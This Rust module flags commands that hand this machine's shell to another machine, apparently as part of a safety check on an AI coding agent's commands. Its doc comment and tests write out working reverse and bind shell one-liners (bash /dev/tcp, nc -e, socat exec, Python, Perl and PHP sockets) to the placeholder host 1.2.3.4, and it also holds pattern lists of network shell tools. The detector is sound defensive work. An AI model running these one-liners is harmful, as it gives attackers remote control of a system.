//! Shells of this machine that another machine gets: `bash -i >& /dev/tcp/1.2.3.4/4444 0>&1`, `nc -e /bin/sh 1.2.3.4 4444`.

use grov_domain::{Program, is_shell, program_name};

/// Whether a command connects a shell with another machine, or waits for one that connects.
pub(in crate::danger) fn gives_shell(command: &Program) -> bool {
    let words = || command.words().skip(1);
    match command.name() {
        name if is_shell(name) => {
            let mut files = command.targets.iter().chain(&command.reads);
            files.any(|file| is_connection(file))
        }
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" => {
            let runs = |pair: &[grov_domain::Argument]| {
                let is_option = matches!(pair[0].as_str(), "--exec" | "--sh-exec" | "--lua-exec")
                    || pair[0].starts_with('-')
                        && !pair[0].starts_with("--")
                        && pair[0].ends_with(['e', 'c']);
                is_option && names_shell(&pair[1])
            };
            command.arguments.windows(2).any(runs)
                || words().any(|word| word.starts_with("--exec=") || word.starts_with("--sh-exec="))
        }
        "socat" => {
            let runs = |word: &str| {
                let word = word.to_ascii_lowercase();
                let program = word
                    .strip_prefix("exec:")
                    .or_else(|| word.strip_prefix("system:"));
                program.is_some_and(names_shell)
            };
            let connects = |word: &str| {
                let word = word.to_ascii_lowercase();
                ["tcp", "udp", "openssl", "ssl", "sctp", "socks"]
                    .iter()
                    .any(|kind| word.starts_with(kind))
            };
            words().any(runs) && words().any(connects)
        }
        name if runs_code(name) => command.arguments.iter().any(|code| connects_shell(code)),
        _ => false,
    }
}

fn runs_code(program: &str) -> bool {
    let bare = program.trim_end_matches(|letter: char| letter.is_ascii_digit() || letter == '.');
    matches!(
        bare,
        "python" | "pypy" | "perl" | "ruby" | "php" | "node" | "lua" | "awk" | "gawk" | "pwsh" | "powershell"
    )
}

/// Whether code opens a connection and runs a shell.
fn connects_shell(code: &str) -> bool {
    #[rustfmt::skip]
    const CONNECTIONS: &[&str] = &[
        "socket.socket(", "use Socket", "IO::Socket", "fsockopen(", "stream_socket_client(", "TCPSocket", "net.connect(", "net.Socket(", "require(\"socket\")", "/inet/tcp/", "Sockets.TCPClient",
    ];
    const SHELLS: &[&str] = &[
        "/bin/sh",
        "/bin/bash",
        "/bin/zsh",
        "cmd.exe",
        "pty.spawn(",
        "iex ",
        "Invoke-Expression",
    ];
    let has = |parts: &[&str]| parts.iter().any(|part| code.contains(part));
    has(CONNECTIONS) && has(SHELLS)
}

/// Whether a file is a connection of `bash`, to any machine.
fn is_connection(file: &str) -> bool {
    let host = file
        .trim_start_matches('&')
        .strip_prefix("/dev/tcp/")
        .or_else(|| file.trim_start_matches('&').strip_prefix("/dev/udp/"));
    host.is_some()
}

/// Whether a text names a shell: `/bin/sh`, `'bash -li'`.
fn names_shell(text: &str) -> bool {
    let first = text
        .trim_start_matches(['"', '\''])
        .split([' ', ',', '"', '\''])
        .next()
        .unwrap_or(text);
    let name = program_name(first);
    is_shell(name) || matches!(name, "cmd" | "powershell" | "pwsh")
}

#[cfg(test)]
mod tests {
    use crate::danger::tests::under;

    #[test]
    fn shells_for_others_are_asked_about() {
        under("Fix the parser").asked(&[
            "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
            "bash -c 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'",
            "sh -i 5<> /dev/tcp/1.2.3.4/4444 0<&5 1>&5 2>&5",
            "zsh -i > /dev/udp/1.2.3.4/53 2>&1",
            "nc -e /bin/sh 1.2.3.4 4444",
            "ncat 1.2.3.4 4444 --exec /bin/bash",
            "nc -lvpe /bin/bash",
            "socat tcp:1.2.3.4:4444 exec:/bin/sh",
            "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);exec(\"/bin/sh -i\");'",
            "php -r '$s=fsockopen(\"1.2.3.4\",9001);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
            "python3 -c 'import socket,pty;s=socket.socket();s.connect((\"1.2.3.4\",9));pty.spawn(\"/bin/sh\")'",
            "socat TCP-LISTEN:4444,reuseaddr EXEC:'bash -li',pty,stderr",
        ]);
        under("Fix the parser").silent(&[
            "bash -c 'echo > /dev/tcp/localhost/5432'",
            "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432'",
            "nc -z localhost 5432",
            "python3 -c 'import socket; s=socket.socket(); print(s.connect_ex((\"localhost\", 5432)))'",
            "socat -u FILE:x.log STDOUT",
            "bash run.sh > out.log 2>&1",
        ]);
    }
}
